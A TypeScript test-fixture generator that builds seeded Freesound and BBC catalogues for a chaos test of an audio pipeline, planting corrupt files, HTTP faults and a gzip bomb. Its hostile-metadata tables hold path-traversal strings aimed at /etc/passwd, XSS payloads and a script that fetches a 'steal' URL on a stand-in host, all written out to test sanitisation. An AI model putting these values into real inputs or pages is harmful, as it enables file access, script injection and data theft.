/**
 * The providers' catalogues for a chaos run, made from a seed (pure): Freesound sounds and BBC index
 * rows, each clip pointing at a file of the audio pool, ~5 % of them at corrupt files, ~1 % carrying
 * hostile metadata, ~5 % meeting transient HTTP faults on download, plus planted cases (redirects to
 * a disallowed host, oversize downloads). Alongside comes the ground truth: every distinct record
 * the providers offer and what must become of it.
 */
import { LICENSE_URLS, type FixtureSound } from '../../demo/providers/freesound-server.ts';
import type { BbcRow } from '../../demo/providers/bbc-server.ts';
import type { FileFault } from '../../demo/providers/common.ts';
import { SeededRandom } from '../../infra/seeded-random.ts';
import type { AudioPool, Expectation, PoolFile } from './audio-pool.ts';

export type SourceName = 'freesound' | 'bbc';

/** What must become of one offered record: an `Expectation`, or left out at crawl time (gen-AI opt-out). */
export type TruthOutcome = Expectation | { outcome: 'excluded'; reason: 'gen_ai' };

export interface TruthEntry {
  source: SourceName;
  /** The provider id as the pipeline derives it (Freesound: the sound id; BBC: location without .wav, or csv-line-N). */
  id: string;
  expect: TruthOutcome;
  /** What was done to it: `hostile:<kind>`, `corrupt:<file>`, `fault:<kind>`, `planted:<kind>`. */
  labels: string[];
}

export interface Catalogue {
  sounds: FixtureSound[];
  previewAudio: Map<number, PoolFile>;
  previewFaults: Map<number, FileFault>;
  rows: BbcRow[];
  wavAudio: Map<string, PoolFile>;
  wavFaults: Map<string, FileFault>;
  /** The BBC index as bytes: the CSV with the invalid-UTF-8 markers replaced by raw bad bytes. */
  csvBytes(csvText: string): Buffer;
  /** Keyed `<source>/<id>`: every distinct record a provider offers. */
  truth: Map<string, TruthEntry>;
  /** Records the providers list but do not offer (deleted, outside the API's duration/rate filter) and repeated ids. */
  unoffered: number;
  duplicates: number;
}

export interface CatalogueOptions {
  seed: string;
  /** Distinct records the providers offer, both together (60 % Freesound, 40 % BBC). */
  clips: number;
  pool: AudioPool;
  /** Where the planted redirects point: a loopback port the providers' policies do not allow. */
  refusedRedirectTo: string;
  /** Also plant the gzip bomb (when the pool has one). */
  bomb: boolean;
}

export const truthKey = (source: string, id: string) => `${source}/${id}`;

const INVALID_UTF8_MARK = '\u0001INVALID-UTF8\u0001';
const INVALID_UTF8_BYTES = Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xff, 0xfe, 0xed, 0xa0, 0x80]);
const MEGABYTE_TEXT = `${'Loud noise. '.repeat(10)}${'x'.repeat(1024 * 1024)}`;

/** Hostile Freesound metadata: what a sound's uploader controls. */
const HOSTILE_SOUNDS: [string, Partial<FixtureSound>][] = [
  ['traversal-name', { name: '../../../../etc/passwd', tags: ['..', '../../x', '/etc/shadow'], username: '../../root' }],
  ['windows-path', { name: 'C:\\Windows\\System32\\..\\..\\evil.wav', description: '\\\\server\\share\\x.wav' }],
  ['megabyte-description', { description: MEGABYTE_TEXT }],
  ['nul-bytes', { name: 'nul\u0000byte\u0000.wav', description: 'before\u0000after. Second.', tags: ['a\u0000b'] }],
  ['lone-surrogates', { name: 'broken \ud800 surrogate \udfff.wav', description: 'half a pair: \udc80. End.' }],
  ['html-script', { name: '<script>alert("name")</script>.wav', description: '<img src=x onerror=alert(1)> Click <a href="javascript:alert(1)">here</a>.', license: 'javascript:alert(1)' }],
  ['control-chars', { name: '\u001b[31mred\u001b[0m\r\n\t.wav', description: 'line one\r\nline two\u2028three.', type: '../../sh' }],
];

/** Hostile BBC rows: the index is a CSV anyone mirroring it could have edited. */
const HOSTILE_ROWS: [string, (row: BbcRow, j: number) => Partial<BbcRow>][] = [
  ['traversal-location', () => ({ location: '../../../etc/passwd.wav' })],
  ['nested-traversal', () => ({ location: 'a/../../b.wav' })],
  ['absolute-location', () => ({ location: '/etc/passwd.wav' })],
  ['dotted-id', (_row, j) => ({ location: `dotted.${j}.id.v2.final.wav` })],
  ['megabyte-description', () => ({ description: MEGABYTE_TEXT })],
  ['nul-bytes', () => ({ description: 'nul\u0000in the middle', CDName: 'CD\u0000Name', category: 'A\u0000: B' })],
  ['invalid-utf8', () => ({ description: `bad bytes ${INVALID_UTF8_MARK} here`, CDName: `x${INVALID_UTF8_MARK}` })],
  ['invalid-utf8-location', () => ({ location: `loc${INVALID_UTF8_MARK}.wav` })],
  ['html-script', () => ({ description: '<script>fetch("http://127.0.0.1:1/steal")</script> rain', CDName: '<b onmouseover=alert(1)>CD</b>', category: '<i>:</i>::' })],
];

/** Transient download faults: each must end in a sample all the same (retries, patience). */
const TRANSIENT_FAULTS: [string, (r: SeededRandom) => FileFault][] = [
  ['429', (r) => ({ status: 429, times: r.int(1, 3) })],
  ['5xx', (r) => ({ status: [500, 502, 503, 504][r.int(0, 3)]!, times: r.int(1, 3) })],
  ['slow', (r) => ({ delayMs: r.int(200, 1500) })],
  ['stall', (r) => ({ stallMs: r.int(300, 1500) })],
  ['truncated', (r) => ({ truncateAt: r.int(64, 2048), times: r.int(1, 2) })],
];

/** Valid BBC locations are `[A-Za-z0-9][A-Za-z0-9._-]*.wav`; anything else the source marks invalid. */
function bbcId(location: string, line: number): { id: string; valid: boolean } {
  const valid = /^[A-Za-z0-9][A-Za-z0-9._-]*\.wav$/i.test(location);
  return valid ? { id: location.replace(/\.wav$/i, ''), valid } : { id: `csv-line-${line}`, valid };
}

/** How many of `n` records get a treatment: the fraction, but every variant at least once. */
const share = (n: number, fraction: number, variants: number) => Math.max(variants, Math.round(n * fraction));

function shuffled<T>(items: T[], random: SeededRandom): T[] {
  const out = [...items];
  for (let i = out.length - 1; i > 0; i--) {
    const j = random.int(0, i);
    [out[i], out[j]] = [out[j]!, out[i]!];
  }
  return out;
}

export function makeCatalogue(options: CatalogueOptions): Catalogue {
  const random = new SeededRandom(`${options.seed}/catalogue`);
  const pick = <T>(items: readonly T[]): T => items[random.int(0, items.length - 1)]!;
  const truth = new Map<string, TruthEntry>();
  const good = (files: PoolFile[]) => {
    // Filtered files are rare on purpose (~2 %), the rest spread evenly.
    const ok = files.filter((f) => f.expect.outcome === 'ok');
    const filtered = files.filter((f) => f.expect.outcome === 'filtered');
    return () => (random.next() < 0.02 ? pick(filtered) : pick(ok));
  };
  const goodPreview = good(options.pool.previews);
  const goodWav = good(options.pool.wavs);
  let unoffered = 0;
  let duplicates = 0;

  // ---- Freesound: ids in creation order; some deleted, some outside the API filter, some opted out.
  const fsTarget = Math.round(options.clips * 0.6);
  const sounds: FixtureSound[] = [];
  const previewAudio = new Map<number, PoolFile>();
  const previewFaults = new Map<number, FileFault>();
  const offeredSounds: FixtureSound[] = [];
  for (let i = 0; offeredSounds.length < fsTarget; i++) {
    const id = 300_000 + i * 7;
    const roll = random.next();
    const sound: FixtureSound = {
      id,
      name: `${pick(['Footsteps gravel', 'Kettle boil', 'Car pass by', 'Wind chimes', 'Keyboard typing', 'Door creak', 'Birds at dawn'])} ${i}.wav`,
      tags: ['chaos', pick(['steps', 'kettle', 'car', 'chimes', 'typing', 'door', 'birds'])],
      description: `Take ${i} of a series. Recorded with a Sony PCM-D100.`,
      license: pick(Object.values(LICENSE_URLS)),
      username: `user${i % 11}`,
      userId: 7000 + (i % 11),
      duration: 1 + (i % 9),
      samplerate: pick([44100, 48000, 96000]),
      channels: 1 + (i % 2),
      type: 'wav',
      filesize: 100_000 + i,
      created: new Date(Date.UTC(2012, 0, 1) + i * 3_600_000).toISOString().replace('Z', ''),
      gen_ai_preference: 'no-additional-preferences',
    };
    sounds.push(sound);
    if (roll < 0.02) {
      sound.deleted = true; // listed as null
      unoffered++;
    } else if (roll < 0.035) {
      Object.assign(sound, random.next() < 0.5 ? { duration: 240 } : { samplerate: 11025 }); // outside the pushed-down filter
      unoffered++;
    } else if (roll < 0.065) {
      sound.gen_ai_preference = 'no-gen-ai';
      truth.set(truthKey('freesound', String(id)), { source: 'freesound', id: String(id), expect: { outcome: 'excluded', reason: 'gen_ai' }, labels: ['gen-ai-opt-out'] });
    } else {
      offeredSounds.push(sound);
    }
  }

  // ---- BBC: index rows in file order; line numbers are row index + 2 (header first, no embedded newlines).
  const bbcTarget = options.clips - truthCount(truth, 'freesound') - offeredSounds.length;
  const rows: BbcRow[] = [];
  for (let j = 0; rows.length < bbcTarget; j++) {
    rows.push({
      location: `0${7_100_000 + j * 13}.wav`,
      description: `${pick(['Dog barking, distant', 'Rain on window', 'Clock ticking', 'Birdsong, dawn chorus', 'Typewriter, manual', 'Tram bell'])}, take ${j}.`,
      secs: String(1 + (j % 8)),
      category: pick(['Animals: Dogs', 'Weather', 'Household: Clocks', 'Nature: Birds', 'Office', 'Transport: Trams']),
      CDNumber: `EC${j}`,
      CDName: pick(['Animals', 'Weather', 'Clocks', 'Birds', 'Office', 'Trams']),
      tracknum: String(j % 20),
    });
  }

  // ---- Treatments, on disjoint seeded picks of each source's offered records.
  const fsOrder = shuffled(offeredSounds.map((_, k) => k), random);
  const bbcOrder = shuffled(rows.map((_, k) => k), random);
  const take = (order: number[], n: number) => order.splice(0, n);

  const fsHostile = take(fsOrder, share(offeredSounds.length, 0.01, HOSTILE_SOUNDS.length));
  const fsCorrupt = take(fsOrder, share(offeredSounds.length, 0.05, options.pool.corrupt.length));
  const fsFaulty = take(fsOrder, share(offeredSounds.length, 0.05, TRANSIENT_FAULTS.length));
  const fsRedirects = take(fsOrder, 2);
  const fsOversize = take(fsOrder, 1);
  const fsBomb = options.bomb && options.pool.bomb ? take(fsOrder, 1) : [];
  const bbcHostile = take(bbcOrder, share(rows.length, 0.01, HOSTILE_ROWS.length));
  const bbcCorrupt = take(bbcOrder, share(rows.length, 0.05, options.pool.corrupt.length));
  const bbcFaulty = take(bbcOrder, share(rows.length, 0.05, TRANSIENT_FAULTS.length));
  const bbcRedirects = take(bbcOrder, 1);
  const bbcOversize = take(bbcOrder, 1);

  const fsLabels = new Map<number, string[]>();
  const label = (map: Map<number, string[]>, k: number, text: string) => map.set(k, [...(map.get(k) ?? []), text]);
  fsHostile.forEach((k, n) => {
    const [kind, patch] = HOSTILE_SOUNDS[n % HOSTILE_SOUNDS.length]!;
    Object.assign(offeredSounds[k]!, patch);
    label(fsLabels, k, `hostile:${kind}`);
  });
  for (const sound of offeredSounds) previewAudio.set(sound.id, goodPreview());
  fsCorrupt.forEach((k, n) => {
    const file = options.pool.corrupt[n % options.pool.corrupt.length]!;
    previewAudio.set(offeredSounds[k]!.id, file);
    label(fsLabels, k, `corrupt:${file.name}`);
  });
  fsFaulty.forEach((k, n) => {
    const [kind, make] = TRANSIENT_FAULTS[n % TRANSIENT_FAULTS.length]!;
    previewFaults.set(offeredSounds[k]!.id, make(random));
    label(fsLabels, k, `fault:${kind}`);
  });
  for (const k of fsRedirects) {
    previewFaults.set(offeredSounds[k]!.id, { redirectTo: options.refusedRedirectTo });
    label(fsLabels, k, 'planted:refused-redirect');
  }
  for (const k of fsOversize) {
    previewAudio.set(offeredSounds[k]!.id, options.pool.oversize);
    label(fsLabels, k, 'planted:oversize');
  }
  for (const k of fsBomb) {
    previewAudio.set(offeredSounds[k]!.id, options.pool.bomb!);
    label(fsLabels, k, 'planted:gzip-bomb');
  }
  for (const [k, sound] of offeredSounds.entries()) {
    const id = String(sound.id);
    const redirected = fsRedirects.includes(k);
    const expect: Expectation = redirected ? { outcome: 'failed', reason: 'fetch_error' } : previewAudio.get(sound.id)!.expect;
    truth.set(truthKey('freesound', id), { source: 'freesound', id, expect, labels: fsLabels.get(k) ?? [] });
  }
  // Repeated ids (the same sound listed again soon after, with other metadata): the first one wins.
  for (const k of take(fsOrder, share(offeredSounds.length, 0.005, 2))) {
    const original = offeredSounds[k]!;
    const created = new Date(`${original.created}Z`).getTime() + 60_000;
    sounds.push({ ...original, name: `${original.name} (repeat)`, description: '<b>duplicate</b> listing', created: new Date(created).toISOString().replace('Z', '') });
    duplicates++;
  }

  const wavAudio = new Map<string, PoolFile>();
  const wavFaults = new Map<string, FileFault>();
  const rowLabels = new Map<number, string[]>();
  bbcHostile.forEach((k, n) => {
    const [kind, patch] = HOSTILE_ROWS[n % HOSTILE_ROWS.length]!;
    Object.assign(rows[k]!, patch(rows[k]!, k));
    label(rowLabels, k, `hostile:${kind}`);
  });
  for (const row of rows) wavAudio.set(row.location, goodWav());
  const at = (k: number) => rows[k]!.location;
  bbcCorrupt.forEach((k, n) => {
    const file = options.pool.corrupt[(n + 3) % options.pool.corrupt.length]!;
    wavAudio.set(at(k), file);
    label(rowLabels, k, `corrupt:${file.name}`);
  });
  bbcFaulty.forEach((k, n) => {
    const [kind, make] = TRANSIENT_FAULTS[n % TRANSIENT_FAULTS.length]!;
    wavFaults.set(at(k), make(random));
    label(rowLabels, k, `fault:${kind}`);
  });
  for (const k of bbcRedirects) {
    wavFaults.set(at(k), { redirectTo: options.refusedRedirectTo });
    label(rowLabels, k, 'planted:refused-redirect');
  }
  for (const k of bbcOversize) {
    wavAudio.set(at(k), options.pool.oversize);
    label(rowLabels, k, 'planted:oversize');
  }
  for (const [k, row] of rows.entries()) {
    const { id, valid } = bbcId(row.location, k + 2);
    const expect: Expectation = !valid
      ? { outcome: 'failed', reason: 'invalid_record' }
      : bbcRedirects.includes(k)
        ? { outcome: 'failed', reason: 'fetch_error' }
        : wavAudio.get(row.location)!.expect;
    truth.set(truthKey('bbc', id), { source: 'bbc', id, expect, labels: rowLabels.get(k) ?? [] });
  }
  // Repeated locations later in the index: dropped as duplicates of the first.
  for (const k of take(bbcOrder, share(rows.length, 0.005, 2))) {
    if (!bbcId(rows[k]!.location, 0).valid) continue;
    rows.push({ ...rows[k]!, description: `${rows[k]!.description} (listed again)` });
    duplicates++;
  }

  return {
    sounds,
    previewAudio,
    previewFaults,
    rows,
    wavAudio,
    wavFaults,
    csvBytes: (text) => {
      const parts = text.split(INVALID_UTF8_MARK);
      return Buffer.concat(parts.flatMap((part, i) => (i === 0 ? [Buffer.from(part)] : [INVALID_UTF8_BYTES, Buffer.from(part)])));
    },
    truth,
    unoffered,
    duplicates,
  };
}

function truthCount(truth: Map<string, TruthEntry>, source: SourceName): number {
  let n = 0;
  for (const entry of truth.values()) if (entry.source === source) n++;
  return n;
}
